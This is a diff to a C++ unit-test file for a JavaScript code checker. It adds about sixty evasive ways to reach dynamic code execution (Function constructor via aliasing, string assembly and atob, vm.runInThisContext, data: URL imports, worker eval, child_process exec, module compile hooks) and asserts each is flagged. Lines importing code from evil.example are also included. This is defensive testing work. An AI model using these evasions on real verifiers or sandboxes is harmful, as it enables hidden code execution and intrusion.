@@ -60,6 +60,73 @@ const char* const kOthers[] = {
     R"js(require('module')._load('child_process').exec('id'))js",
     R"js(require('module').createRequire(__filename)('child_process').exec('id'))js",
 };
+const char* const kRoundabout[] = {
+    R"js(const F = [].constructor.constructor; F('x')())js",
+    R"js(const x = {}; x.constructor.constructor('return process')())js",
+    R"js(Object.constructor('x')())js",
+    R"js(Array.constructor('x')())js",
+    R"js(const k = 'constructor'; (()=>{})[k]('x')())js",
+    R"js(const k = 'con' + 'structor'; (()=>{})[k][k]('x')())js",
+    R"js(const g = Object.getPrototypeOf(function*(){}); g['constructor']('x'))js",
+    R"js(let F; F = Function; F('x')())js",
+    R"js(const o = {f: Function}; o.f('x')())js",
+    R"js(const [F] = [Function]; F('x')())js",
+    R"js(function mk() { return Function } mk()('x')())js",
+    R"js(const F = () => Function; F()('x')())js",
+    R"js((function f(){}).constructor.apply(null, ['x'])())js",
+    R"js([Function][0]('x')())js",
+    R"js([Function].map(f => f('x')()))js",
+    R"js(new (class extends Function {})('x')())js",
+    R"js(class G extends Function {} new G('x')())js",
+    R"js(class G extends (async()=>{}).constructor {} new G('x')())js",
+    R"js(Function`x```)js",
+    R"js(Reflect.construct(...[Function, ['x']])())js",
+    R"js(Reflect['construct'](Function, ['x'])())js",
+    R"js(const R = Reflect; R.construct(Function, ['x'])())js",
+    R"js(const { construct } = Reflect; construct(Function, ['x'])())js",
+    R"js(Promise.resolve('x').then(Function).then(f => f()))js",
+    R"js(['x'].map(Function)[0]())js",
+    R"js(['x'].map(eval))js",
+    R"js(Array.from(['x'], Function)[0]())js",
+    R"js('x'.replace(/x/, Function))js",
+    R"js(setTimeout(Function('x')))js",
+    R"js(queueMicrotask(new Function('x')))js",
+    R"js(process.on('exit', new Function('x')))js",
+    R"js(globalThis[atob('RnVuY3Rpb24=')]('x')())js",
+    R"js(globalThis[['Fun','ction'].join('')]('x')())js",
+    R"js(globalThis[String.fromCharCode(69+1, 117, 110, 99, 116, 105, 111, 110)]('x')())js",
+    R"js(for (const k of Object.getOwnPropertyNames(globalThis)) if (k[0] == 'F' && k.length == 8) globalThis[k]('x')())js",
+    R"js(const {Function: F} = globalThis; F('x')())js",
+    R"js(const {['Func' + 'tion']: F} = globalThis; F('x')())js",
+    R"js(with (globalThis) Function('x')())js",
+    R"js((function(){ return this.Function('x')() })())js",
+    R"js((()=>{}).__proto__.constructor('x')())js",
+    R"js(Function.prototype.call.call(Function, null, 'x')())js",
+    R"js(Function.prototype.call.bind(Function)(null, 'x')())js",
+    R"js(Function.prototype.apply.call(Function, null, ['x'])())js",
+    R"js(import('node:module').then(m => m.createRequire('/')('child_process').exec('id')))js",
+    R"js(import { createRequire } from 'module'; createRequire(import.meta.url)('child_process').execSync('id'))js",
+    R"js(import('vm').then(v => v.runInThisContext('x')))js",
+    R"js(const { runInThisContext: r } = require('vm'); r('x'))js",
+    R"js(require('vm')['run' + 'InThisContext']('x'))js",
+    R"js(import * as vm from 'vm'; new vm.SourceTextModule('x'))js",
+    R"js(const b = new Blob(['x']); import(URL.createObjectURL(b)))js",
+    R"js(import(`data:text/javascript,${c}`))js",
+    R"js(const u = 'data:text/javascript,' + encodeURIComponent(c); import(u))js",
+    R"js(const u = new URL('data:text/javascript,x'); import(u))js",
+    R"js(process.mainModule.constructor._load('child_process').exec('id'))js",
+    R"js(module.children[0].require('child_process').exec('id'))js",
+    R"js(require.main.constructor._load('child_process'))js",
+    R"js(require.extensions['.txt'] = (m, f) => m._compile(c, f))js",
+    R"js(require('module').prototype._compile.call(module, c, 'f'))js",
+    R"js(require('module').wrap = s => c)js",
+    R"js(require('module').register('./hooks.mjs'))js",
+    R"js(process.execArgv.push('-r'); process.env.NODE_OPTIONS = '--require ./x.js')js",
+    R"js(new (require('worker_threads').Worker)(c, {eval: 1}))js",
+    R"js(const {Worker: W} = require('worker_threads'); new W(c, {eval: !0, workerData: 1}))js",
+    R"js(const w = require('worker_threads'); new w.Worker(c, {...{eval: true}}))js",
+    R"js(require('child_process').fork('./x.js'))js",
+};
 const char* const kWritten[] = {
     R"js(const fs = require('fs'); fs.writeFileSync('./x.js', code); require('./x.js'))js",
     R"js(const fs = require('fs'); fs.writeFileSync('x.js', 'module.exports = 1'); require('./x'))js",
@@ -91,6 +158,8 @@ const char* const kOrdinary[] = {
     R"js(const { Worker, isMainThread } = require('worker_threads'); if (isMainThread) new Worker(__filename);)js",
     R"js(setTimeout(() => {}, 0); const F = x => x; new Map(); Reflect.construct(Map, []); Reflect.apply(Math.max, null, [1]);)js",
     R"js(const fs = require('fs'); fs.writeFileSync('cfg.json', '{}'); const cfg = require('./cfg.json'); fs.mkdirSync('./lib'); const l = require('./lib'); fs.readFileSync('./a.js'); const a = require('./a.js'); fs.unlinkSync('./b.js');)js",
+    R"js((function () { var root = this; this.name = 1; var old = root.lib; root.lib = {noConflict() { root.lib = old; }}; })();)js",
+    R"js(const a = 'x'; const {[a + 'y']: b, ['c' + 'd']: e} = load(); [b, e].map(v => v.trim()).filter(v => v);)js",
 };
 
 TEST(JavascriptMadeCode, FunctionUnderEveryName) {
@@ -106,6 +175,15 @@ TEST(JavascriptMadeCode, OtherWaysToCode) {
       EXPECT_GT(look(source, level).count("error"), 0) << source;
   EXPECT_TRUE(look("const { Worker } = require('worker_threads'); new Worker('x', {['ev' + 'al']: true})", VerifyLevel::kStrict)
                   .has("js-eval-constant", "error"));
+}
+
+TEST(JavascriptMadeCode, NoWayRoundIsWithoutAnError) {
+  for (const char* source : kRoundabout)
+    for (VerifyLevel level : {VerifyLevel::kDefault, VerifyLevel::kStrict})
+      EXPECT_GT(look(source, level).count("error"), 0) << source;
+  for (const char* source : {"import('http://evil.example/x.mjs')", "import x from 'https://evil.example/x.mjs'",
+                             "const { Worker } = require('worker_threads'); new Worker('x', Object.assign({}, {eval: true}))"})
+    EXPECT_GT(look(source, VerifyLevel::kStrict).count("error"), 0) << source;
 }
 
 TEST(JavascriptMadeCode, AFileThatItWritesAndLoads) {
